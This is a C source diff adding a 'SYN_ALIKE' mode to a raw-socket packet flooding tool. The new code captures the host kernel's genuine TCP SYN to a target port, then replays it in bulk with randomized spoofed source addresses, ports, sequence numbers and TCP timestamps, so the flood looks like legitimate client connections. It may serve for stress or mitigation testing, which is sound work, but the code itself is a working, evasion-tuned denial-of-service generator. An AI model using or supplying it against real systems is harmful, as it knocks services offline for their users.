@@ -10,6 +10,7 @@
 #include <net/if.h>
 #include <net/if_arp.h>
 #include <netinet/in.h>
+#include <poll.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/ioctl.h>
@@ -21,6 +22,7 @@
 #define IP_AT 14u
 #define L4_AT 34u
 #define FRAME 60u
+#define FRAME_MAX 128u
 
 static uint64_t state = 0x9e3779b97f4a7c15;
 
@@ -41,6 +43,17 @@ struct wire {
 
 static const struct wire *wire;
 
+/* How this kernel calls: as clients and newcomers do, which are its own. */
+static struct {
+	uint8_t bytes[FRAME_MAX];
+	uint32_t len, times; /* the frame's; where its timestamp is, or 0 */
+} call;
+
+static uint32_t draw_source(void)
+{
+	return wire->aim.source | ((uint32_t)draw() & (wire->aim.sources - 1));
+}
+
 static void put_ip(uint8_t *f, uint8_t proto, uint32_t payload, uint32_t fragment)
 {
 	const struct flood_aim *aim = &wire->aim;
@@ -55,7 +68,7 @@ static void put_ip(uint8_t *f, uint8_t proto, uint32_t payload, uint32_t fragmen
 	put16(ip + 6, fragment);
 	ip[8] = 64;
 	ip[9] = proto;
-	put32(ip + 12, aim->source | ((uint32_t)draw() & (aim->sources - 1)));
+	put32(ip + 12, draw_source());
 	put32(ip + 16, aim->destination | ((uint32_t)draw() & (aim->destinations - 1)));
 	put16(ip + 10, sum(ip, 20, 0) ^ 0xffff);
 }
@@ -77,7 +90,26 @@ static void put_tcp(uint8_t *f, uint8_t flags)
 	put16(tcp + 16, sum(f + IP_AT + 12, 8 + 24, 6 + 24) ^ 0xffff);
 }
 
-static void make(enum flood kind, uint8_t *f)
+static void put_call(uint8_t *f)
+{
+	const uint32_t segment = call.len - L4_AT;
+	uint8_t *ip = f + IP_AT, *tcp = f + L4_AT;
+
+	memcpy(f, call.bytes, call.len);
+	put16(ip + 4, (uint32_t)draw());
+	put16(ip + 10, 0);
+	put32(ip + 12, draw_source());
+	put16(ip + 10, sum(ip, 20, 0) ^ 0xffff);
+	put16(tcp, 1024 + (uint32_t)draw() % 60000);
+	put32(tcp + 4, (uint32_t)draw());
+	if (call.times)
+		put32(f + call.times, (uint32_t)draw());
+	put16(tcp + 16, 0);
+	put16(tcp + 16, sum(ip + 12, 8 + segment, 6 + segment) ^ 0xffff);
+}
+
+/* How long it is. */
+static uint32_t make(enum flood kind, uint8_t *f)
 {
 	uint8_t *l4 = f + L4_AT;
 
@@ -85,6 +117,9 @@ static void make(enum flood kind, uint8_t *f)
 	case FLOOD_SYN:
 		put_tcp(f, 0x02);
 		break;
+	case FLOOD_SYN_ALIKE:
+		put_call(f);
+		return call.len;
 	case FLOOD_ACK:
 		put_tcp(f, 0x10);
 		break;
@@ -114,6 +149,7 @@ static void make(enum flood kind, uint8_t *f)
 	case FLOODS:
 		break;
 	}
+	return FRAME;
 }
 
 static void insist(bool well, const char *what)
@@ -188,9 +224,56 @@ static int open_wire(struct wire *w)
 	return fd;
 }
 
+static void find_times(void)
+{
+	const uint32_t end = L4_AT + (call.bytes[L4_AT + 12] >> 4) * 4u;
+
+	for (uint32_t at = L4_AT + 20; at + 10 <= end && at + 10 <= call.len;) {
+		const uint8_t *option = call.bytes + at;
+
+		if (option[0] == 8)
+			call.times = at + 2;
+		at += option[0] < 2 || option[1] == 0 ? 1 : option[1];
+	}
+}
+
+static bool is_call(const struct flood_aim *aim, ssize_t len)
+{
+	const uint8_t *ip = call.bytes + IP_AT;
+
+	return len >= (ssize_t)L4_AT + 20 && get16(call.bytes + 12) == ETH_P_IP && ip[0] == 0x45 &&
+	       ip[9] == 6 && get32(ip + 16) == aim->destination &&
+	       get16(call.bytes + L4_AT + 2) == FLOOD_PORT && call.bytes[L4_AT + 13] == 2;
+}
+
+/* Has the kernel call, and looks at what it sends. */
+static void learn_call(const struct flood_aim *aim)
+{
+	const int heard = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
+	const int caller = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+	const struct sockaddr_in to = { .sin_family = AF_INET,
+					.sin_port = htons(FLOOD_PORT),
+					.sin_addr = { htonl(aim->destination) } };
+	const struct linger none = { 1, 0 };
+	struct pollfd wanted = { heard, POLLIN, 0 };
+	ssize_t len = 0;
+
+	insist(heard >= 0 && caller >= 0, "sockets");
+	(void)connect(caller, (const struct sockaddr *)&to, sizeof(to));
+	while (!is_call(aim, len)) {
+		insist(poll(&wanted, 1, 1000) == 1, "no call");
+		len = recv(heard, call.bytes, sizeof(call.bytes), 0);
+	}
+	call.len = (uint32_t)len;
+	find_times();
+	(void)setsockopt(caller, SOL_SOCKET, SO_LINGER, &none, sizeof(none));
+	close(caller);
+	close(heard);
+}
+
 _Noreturn void flood_send(enum flood kind, const struct flood_aim *aim, volatile uint64_t *sent)
 {
-	static uint8_t frames[BATCH][FRAME];
+	static uint8_t frames[BATCH][FRAME_MAX];
 	static struct wire own;
 	struct mmsghdr messages[BATCH];
 	struct iovec parts[BATCH];
@@ -199,6 +282,8 @@ _Noreturn void flood_send(enum flood kind, const struct flood_aim *aim, volatile
 	own.aim = *aim;
 	fd = open_wire(&own);
 	wire = &own;
+	if (kind == FLOOD_SYN_ALIKE)
+		learn_call(&own.aim);
 	memset(messages, 0, sizeof(messages));
 	for (uint32_t i = 0; i < BATCH; i++) {
 		parts[i] = (struct iovec){ frames[i], FRAME };
@@ -209,7 +294,8 @@ _Noreturn void flood_send(enum flood kind, const struct flood_aim *aim, volatile
 		int count = 0;
 
 		for (uint32_t i = 0; i < BATCH; i++)
-			make(kind == FLOOD_NONE ? FLOOD_SYN : kind, frames[i]);
+			parts[i].iov_len =
+				make(kind == FLOOD_NONE ? FLOOD_SYN : kind, frames[i]);
 		if (kind != FLOOD_NONE)
 			count = sendmmsg(fd, messages, BATCH, 0);
 		if (count > 0)
